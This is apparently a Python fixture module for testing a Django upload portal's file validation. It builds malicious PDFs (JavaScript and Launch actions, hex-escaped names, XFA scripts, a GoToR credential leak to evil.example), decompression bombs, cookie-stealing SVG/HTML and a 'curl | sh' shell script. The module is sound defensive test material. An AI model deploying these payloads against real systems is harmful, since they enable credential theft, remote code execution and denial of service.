"""Files built in memory for the upload tests: good ones, and the bad ones a portal receives.

Nothing binary is committed: every sample is generated here, small, and deterministic.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

MB = 1024 * 1024


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """What the browser sends: a name and a declared type, neither of which is trusted."""
    return SimpleUploadedFile(name, content, content_type=content_type)


# PDF ---------------------------------------------------------------------------------------


def pdf_bytes(*, pages: int = 1, title: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if title is not None:
        writer.add_metadata({"/Title": title})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object 1 being the catalogue, with a correct cross-reference."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_opening_with(action: bytes) -> bytes:
    """A one-page PDF whose /OpenAction is ``action`` (object 4)."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, action)


def pdf_with_js_open_action() -> bytes:
    return pdf_opening_with(b"<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>")


def pdf_with_hex_escaped_js() -> bytes:
    """/J#61vaScript and /J#53 are /JavaScript and /JS once decoded: a naive grep misses them."""
    return pdf_opening_with(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>")


def pdf_with_launch_action() -> bytes:
    return pdf_opening_with(b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")


def pdf_with_page_additional_actions() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
    )


def pdf_with_pypdf_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("this.print({bUI: false});"))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00not really")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_link_and_page_open_action() -> bytes:
    """Harmless: a web link on the page and an opening view, which ordinary PDFs have."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] "
        b"/A << /S /URI /URI (https://www.example.org/) >> >>",
    )


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_with_xfa_script() -> bytes:
    """An XFA form: its JavaScript sits in an XML stream, where no dictionary key shows it."""
    xdp = (
        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
        b'<subform><event activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert(1);</script></event></subform></template></xdp:xdp>"
    )
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
        PAGES,
        PAGE,
        _stream(xdp),
    )


def pdf_with_attachment_annotation() -> bytes:
    """A file attached to a page, its stream without the optional /Type /EmbeddedFile."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] "
        b"/FS << /Type /Filespec /F (facture.exe) /EF << /F 5 0 R >> >> >>",
        _stream(b"MZ\x90\x00not really"),
    )


def pdf_submitting_a_form() -> bytes:
    return pdf_opening_with(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")


def pdf_opening_a_remote_file() -> bytes:
    """/GoToR to a network path: opening it hands the reader's Windows credentials over."""
    return pdf_opening_with(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >>")


def pdf_with_link_running_javascript() -> bytes:
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] "
        b'/A << /S /JavaScript /JS (app.launchURL\\("https://evil.example/"\\);) >> >>',
    )


def encrypted_pdf(*, user_password: str = "secret") -> bytes:  # noqa: S107 - a sample file
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def corrupt_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 20


def truncated_pdf() -> bytes:
    whole = pdf_bytes(pages=3)
    return whole[: len(whole) // 2]


def pdf_without_pages() -> bytes:
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")


# Images ------------------------------------------------------------------------------------


def image_bytes(image_format: str, size: tuple[int, int] = (40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (11, 93, 75)).save(buffer, image_format)
    return buffer.getvalue()


def _png_chunk(tag: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))


@cache
def black_and_white_png(width: int, height: int) -> bytes:
    """A 1-bit PNG of any size, written without ever holding its pixels: a few kilobytes on
    disk for a 30000 x 30000 image, which decoded would take close to a gigabyte."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = bytes(1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = bytearray()
    rows_per_block = max(1, (1 << 20) // len(row))
    remaining = height
    while remaining:
        count = min(rows_per_block, remaining)
        data += compressor.compress(row * count)
        remaining -= count
    data += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", bytes(data))
        + _png_chunk(b"IEND", b"")
    )


def truncated_image(image_format: str) -> bytes:
    """A photo cut in the middle of its data, as an interrupted transfer leaves it."""
    buffer = io.BytesIO()
    Image.effect_noise((400, 300), 64).convert("RGB").save(buffer, image_format)
    whole = buffer.getvalue()
    return whole[: len(whole) * 2 // 3]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose header announces other dimensions: decoding it would take gigabytes."""
    data = bytearray(image_bytes("JPEG"))
    frame = data.index(b"\xff\xc0")  # SOF0: length (2), precision (1), height (2), width (2)
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@cache
def png_with_text_bomb() -> bytes:
    """A PNG with a compressed text chunk that inflates to 200 MB."""
    png = image_bytes("PNG")
    text = b"Comment\x00\x00" + zlib.compress(bytes(200 * MB), 9)
    return png[:33] + _png_chunk(b"zTXt", text) + png[33:]  # after the 33 bytes of IHDR


def png_with_bad_checksum() -> bytes:
    data = bytearray(image_bytes("PNG"))
    data[-20] ^= 0xFF  # inside the image data, whose CRC no longer matches
    return bytes(data)


# Not documents at all ----------------------------------------------------------------------


def windows_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" * 8


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"


def html_with_script() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/me/')</script></body></html>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def html_in_utf16() -> bytes:
    return "<html><body><script>alert(document.cookie)</script></body></html>".encode("utf-16")


def padded_pdf(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (a comment line after %%EOF fills it)."""
    content = pdf_bytes() + b"%"
    return content + b" " * (size - len(content) - 1) + b"\n"


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("facture.pdf", pdf_bytes())
    return buffer.getvalue()


@cache
def zip_bomb() -> bytes:
    """50 MB of zeros in a few kilobytes."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w") as member,
    ):
        for _ in range(50):
            member.write(bytes(MB))
    return buffer.getvalue()
